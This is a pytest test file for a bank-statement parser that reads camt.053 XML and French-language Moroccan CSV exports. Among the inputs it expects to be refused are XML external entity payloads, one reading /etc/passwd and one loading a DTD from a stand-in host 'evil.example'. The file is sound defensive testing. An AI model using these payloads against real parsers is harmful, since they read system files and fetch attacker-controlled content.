"""Banks' statements: what is read of them, and what is refused."""

from contextlib import suppress
from datetime import date
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from marketplace.payments.bank_statements import (
    StatementUnreadable,
    read_camt053,
    read_csv,
    read_statements,
)

OLD, NEW = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02", "camt.053.001.08"


def camt(entries: str, *, namespace: str = OLD, head: str = "") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>{head}
<Document xmlns="{namespace}"><BkToCstmrStmt>
<GrpHdr><MsgId>M1</MsgId><CreDtTm>2026-11-25T06:00:00</CreDtTm></GrpHdr>
<Stmt><Id>S-77</Id><Acct><Id><Othr><Id>011810000012345678901242</Id></Othr></Id>
<Ccy>MAD</Ccy></Acct>
<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="MAD">1000.00</Amt>
<CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-11-24</Dt></Dt></Bal>
<Bal><Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp><Amt Ccy="MAD">1575.50</Amt>
<CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-11-24</Dt></Dt></Bal>
{entries}</Stmt></BkToCstmrStmt></Document>""".encode()


CREDIT = """<Ntry><Amt Ccy="MAD">675.50</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts>
<BookgDt><Dt>2026-11-24</Dt></BookgDt><ValDt><Dt>2026-11-25</Dt></ValDt>
<AcctSvcrRef>BR1</AcctSvcrRef><NtryDtls><TxDtls><Refs><MsgId>MM</MsgId>
<EndToEndId>NOTPROVIDED</EndToEndId></Refs>
<RltdPties><Dbtr><Nm>سلمى بناني</Nm></Dbtr><DbtrAcct><Id><IBAN>MA64011519000001205000534921
</IBAN></Id></DbtrAcct></RltdPties>
<RmtInf><Ustrd>Virement TWZ-4K7Q-2M9X</Ustrd><Ustrd>commande</Ustrd></RmtInf></TxDtls></NtryDtls>
</Ntry>"""
RETURNED = """<Ntry><Amt Ccy="MAD">100.00</Amt><CdtDbtInd>DBIT</CdtDbtInd>
<Sts><Cd>BOOK</Cd></Sts><BookgDt><DtTm>2026-11-24T10:00:00+01:00</DtTm></BookgDt>
<NtryDtls><TxDtls><Refs><EndToEndId>E2E-9</EndToEndId></Refs>
<RltdPties><Cdtr><Pty><Nm>Coop</Nm></Pty></Cdtr></RltdPties>
<RtrInf><Rsn><Cd>AC04</Cd></Rsn></RtrInf></TxDtls></NtryDtls></Ntry>"""
PENDING = CREDIT.replace("BOOK", "PDNG", 1)


def test_a_statement_is_read_in_the_old_and_the_new_version() -> None:
    (statement,) = read_statements(camt(CREDIT + RETURNED + PENDING))

    assert (statement.statement_id, statement.account, statement.currency) == (
        "S-77",
        "011810000012345678901242",
        "MAD",
    )
    assert statement.is_complete is True
    credit, returned = statement.entries
    assert (credit.amount_minor, credit.currency, credit.is_credit) == (67_550, "MAD", True)
    assert (credit.booked_on, credit.value_on) == (date(2026, 11, 24), date(2026, 11, 25))
    assert (credit.end_to_end_id, credit.message_id, credit.bank_reference) == ("", "MM", "BR1")
    assert credit.remittance == "Virement TWZ-4K7Q-2M9X commande"
    assert credit.counterparty_name == "سلمى بناني"
    assert credit.counterparty_iban == "MA64011519000001205000534921"
    assert (returned.signed_minor, returned.end_to_end_id, returned.return_reason) == (
        -10_000,
        "E2E-9",
        "AC04",
    )
    assert returned.counterparty_name == "Coop"
    (again,) = read_camt053(camt(CREDIT + RETURNED, namespace=NEW))
    assert again.entries == statement.entries


def test_a_batch_becomes_its_transactions_when_they_add_up() -> None:
    detail = (
        "<TxDtls><Refs><EndToEndId>E{n}</EndToEndId></Refs>"
        '<AmtDtls><TxAmt><Amt Ccy="MAD">{amount}</Amt></TxAmt></AmtDtls></TxDtls>'
    )
    batch = (
        '<Ntry><Amt Ccy="MAD">30.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts>'
        "<BookgDt><Dt>2026-11-24</Dt></BookgDt><NtryDtls>{details}</NtryDtls></Ntry>"
    )
    parts = detail.format(n=1, amount="10.00") + detail.format(n=2, amount="20.00")
    wrong = detail.format(n=1, amount="10.00") + detail.format(n=2, amount="21.00")

    (split,) = read_camt053(camt(batch.format(details=parts)))
    (whole,) = read_camt053(camt(batch.format(details=wrong)))

    assert [(e.end_to_end_id, e.amount_minor) for e in split.entries] == [
        ("E1", 1000),
        ("E2", 2000),
    ]
    assert [e.amount_minor for e in whole.entries] == [3000]
    assert whole.is_complete is False


EVIL = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "yy">]>'


@pytest.mark.parametrize(
    "content",
    [
        camt(CREDIT.replace("commande", "&x;"), head=EVIL),
        camt(CREDIT.replace("commande", "&y;"), head=EVIL),
        camt(CREDIT, head='<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">'),
        camt(CREDIT)[:-30],
        camt(CREDIT.replace("675.50", "675.505")),
        camt(CREDIT.replace("675.50", "NaN")),
        camt(CREDIT.replace("675.50", "-5.00")),
        camt(CREDIT.replace("2026-11-24", "yesterday")),
        camt(CREDIT.replace("BkToCstmrStmt", "Other")).replace(b"BkToCstmrStmt", b"Other"),
        b"<html></html>",
        b"",
        b"date;montant\n2026-11-24;abc\n",
        b"date;montant\n",
        b"nom;age\nx;1\n",
    ],
)
def test_what_cannot_be_trusted_is_refused_whole(content: bytes) -> None:
    with pytest.raises(StatementUnreadable):
        read_statements(content)


def test_too_large_a_file_is_not_even_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("marketplace.payments.bank_statements.camt053.LARGEST_BYTES", 100)

    with pytest.raises(StatementUnreadable):
        read_camt053(camt(CREDIT))


def test_a_csv_of_a_moroccan_bank_is_read() -> None:
    content = (
        "Date opération;Date de valeur;Libellé;Débit;Crédit;Référence\r\n"
        "24/11/2026;25/11/2026;VIR RECU TWZ-4K7Q-2M9X;;1 675,50;R1\r\n"
        "٢٥/١١/٢٠٢٦;;FRAIS;12,00;;R2\r\n"
    ).encode("utf-8-sig")

    (statement,) = read_statements(content)

    credit, debit = statement.entries
    assert (credit.signed_minor, credit.booked_on, credit.remittance) == (
        167_550,
        date(2026, 11, 24),
        "VIR RECU TWZ-4K7Q-2M9X",
    )
    assert (debit.signed_minor, debit.booked_on, debit.value_on) == (
        -1200,
        date(2026, 11, 25),
        None,
    )


@pytest.mark.parametrize(
    ("text", "minor"),
    [("1 234,50", 123_450), ("1.234,50", 123_450), ("1,234.50", 123_450), ("-12.3", -1230)],
)
def test_amounts_as_banks_write_them(text: str, minor: int) -> None:
    content = f"date;montant\n2026-11-24;{text}\n".encode()

    assert read_csv(content).entries[0].signed_minor == minor


@given(st.binary(max_size=300))
def test_whatever_comes_is_read_or_refused(content: bytes) -> None:
    with suppress(StatementUnreadable):
        read_statements(content)


def test_a_reference_is_found_wherever_a_bank_puts_it() -> None:
    unstructured = "<Ustrd>Virement TWZ-4K7Q-2M9X</Ustrd><Ustrd>commande</Ustrd>"
    for place in (
        "<Strd><AddtlRmtInf>TWZ-4K7Q-2M9X</AddtlRmtInf></Strd>",
        "<Strd><CdtrRefInf><Ref>TWZ-4K7Q-2M9X</Ref></CdtrRefInf></Strd>",
        "<Strd><RfrdDocInf><Nb>TWZ-4K7Q-2M9X</Nb></RfrdDocInf></Strd>",
    ):
        (statement,) = read_camt053(camt(CREDIT.replace(unstructured, place)))
        assert statement.entries[0].remittance == "TWZ-4K7Q-2M9X"


def test_a_batch_in_one_sum_keeps_the_name_of_our_file() -> None:
    batch = (
        '<Ntry><Amt Ccy="MAD">30.00</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts>BOOK</Sts>'
        "<BookgDt><Dt>2026-11-24</Dt></BookgDt><NtryDtls>{}</NtryDtls></Ntry>"
    )
    detail = "<TxDtls><Refs><PmtInfId>RUN-7</PmtInfId><EndToEndId>E{}</EndToEndId></Refs></TxDtls>"
    for told in ("<Btch><PmtInfId>RUN-7</PmtInfId></Btch>", detail.format(1) + detail.format(2)):
        (entry,) = read_camt053(camt(batch.format(told)))[0].entries
        assert (entry.payment_id, entry.end_to_end_id, entry.signed_minor) == ("RUN-7", "", -3000)


@pytest.mark.parametrize(
    ("moment", "zone", "day"),
    [
        ("2026-11-24T23:30:00Z", "Africa/Tunis", 25),
        ("2026-11-24T23:30:00Z", "Africa/Dakar", 24),
        ("2026-11-25T00:30:00+02:00", "Africa/Tunis", 24),
        ("2026-11-24T23:30:00", "Africa/Tunis", 24),
    ],
)
def test_a_moment_falls_on_the_day_of_the_accounts_place(moment: str, zone: str, day: int) -> None:
    content = camt(RETURNED.replace("2026-11-24T10:00:00+01:00", moment))
    (statement,) = read_camt053(content, ZoneInfo(zone))
    assert statement.entries[0].booked_on == date(2026, 11, day)


def test_an_amount_is_a_credit_or_a_debit() -> None:
    with pytest.raises(StatementUnreadable):
        read_camt053(camt(CREDIT.replace("CRDT", "")))


def test_one_movement_has_the_same_mark_in_two_files() -> None:
    (first,) = read_camt053(camt(CREDIT))
    (second,) = read_camt053(camt(RETURNED + CREDIT))

    assert first.entries[0].content_hash == second.entries[1].content_hash
    assert second.entries[0].content_hash != second.entries[1].content_hash
